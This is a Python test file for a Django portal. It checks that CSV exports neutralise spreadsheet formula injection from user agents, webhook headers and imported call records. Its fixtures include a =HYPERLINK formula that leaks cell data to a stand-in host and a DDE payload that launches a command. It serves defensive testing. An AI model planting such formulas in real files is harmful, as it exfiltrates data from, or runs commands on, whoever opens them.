"""CSV exports never hand a spreadsheet a formula: attacker-controlled cells (a user agent, a webhook
source, a call id or queue) are neutralised on the way out and stored as received."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
import time_machine
from django.test import Client
from django.utils import timezone

from portal.csvsafe import FORMULA_PREFIXES, csv_text, neutralise
from portal.metrics import imports, rollups
from portal.metrics.models import CallRecord, MetricsPatient
from portal.models import AuditEvent
from tests.conftest import World

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CALC = "=cmd|' /C calc'!A0"
NOW = datetime(2026, 3, 14, 23, 30, tzinfo=UTC)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _dangerous_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate (numbers such as ``-0.25`` are data, not formulas)."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(FORMULA_PREFIXES) and not _is_number(cell)
    ]


def _audit_csv(world: World) -> str:
    start = (timezone.now() - timedelta(days=1)).isoformat()
    end = (timezone.now() + timedelta(days=1)).isoformat()
    response = world.client("admin").get("/api/v1/audit/export", {"start": start, "end": end, "format": "csv"})
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK, CALC])
def test_formula_cells_get_a_leading_quote(value: str) -> None:
    assert neutralise(value) == "'" + value
    text = csv_text(["a"], [{"a": value}])
    assert next(iter(csv.DictReader(io.StringIO(text, newline=""))))["a"] == "'" + value


def test_plain_cells_and_numbers_are_left_alone() -> None:
    assert neutralise("hello = world") == "hello = world"
    assert neutralise(-3) == -3 and neutralise(-0.25) == -0.25 and neutralise(None) is None
    assert csv_text(["a", "b"], [{"a": -0.25, "b": "x"}]).splitlines() == ["a,b", "-0.25,x"]


@time_machine.travel(NOW, tick=False)
def test_failed_login_user_agent_and_webhook_source_are_neutralised_in_the_audit_export(
    world: World, settings: Any
) -> None:
    settings.PORTAL_METRICS_WEBHOOK_SECRETS = "genesys:whsec-test-0123456789"
    login = Client(headers={"user-agent": HYPERLINK}).post(
        "/_allauth/app/v1/auth/login",
        {"email": world.guardian.email, "password": "wrong password"},
        content_type="application/json",
    )
    assert login.status_code in (400, 401)
    webhook = Client().post(
        "/api/v1/metrics/calls",
        data=b"{}",
        content_type="application/json",
        headers={"X-Metrics-Source": "=1+1", "X-Metrics-Timestamp": "1", "X-Metrics-Signature": "x"},
    )
    assert webhook.status_code == 401
    with time_machine.travel(NOW + timedelta(hours=1), tick=False):  # the refusal's window has closed
        text = _audit_csv(world)
    # Stored as received (the chain hashes what arrived) ...
    assert AuditEvent.objects.filter(user_agent=HYPERLINK).exists()
    assert AuditEvent.objects.filter(entity_id="=1+1").exists()
    # ... and exported as text.
    assert _dangerous_cells(text) == []
    cells = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
    assert "'" + HYPERLINK in cells and "'=1+1" in cells


@time_machine.travel(NOW, tick=False)
def test_call_import_cells_are_stored_verbatim_and_neutralised_in_every_csv_export(world: World) -> None:
    patient = MetricsPatient.objects.create(ref="s:x:formula", source="synthetic", department=CALC)
    data = (
        "call_id,started_at,duration_seconds,direction,queue,reason,caller_phone,mrn,outcome\n"
        f'"{CALC}",2025-03-03T09:00:00+00:00,120,inbound,"{CALC}",refill,,,answered\n'
    ).encode()
    imports.calls_import(actor=world.admin, source="switchboard", data=data)
    call = CallRecord.objects.get()
    assert call.call_id == CALC and call.queue == CALC
    for index in range(12):  # enough calls for the department's cells to be shown
        CallRecord.objects.create(
            source="t",
            call_id=f"{CALC}{index}",
            started_at=datetime(2025, 3, 3, 9, tzinfo=UTC),
            day=date(2025, 3, 3),
            duration_seconds=10,
            direction="inbound",
            topic="refill",
            queue=CALC,
            patient=patient,
            outcome="answered",
        )
    rollups.rollups_refresh(days=[date(2025, 3, 3)])
    response = world.client("admin").get(
        "/api/v1/metrics/export?period=day&start=2025-03-03&end=2025-03-03&group_by=department"
    )
    assert response.status_code == 200
    report = response.content.decode()
    assert "'" + CALC in report
    assert _dangerous_cells(report) == []
    assert _dangerous_cells(_audit_csv(world)) == []
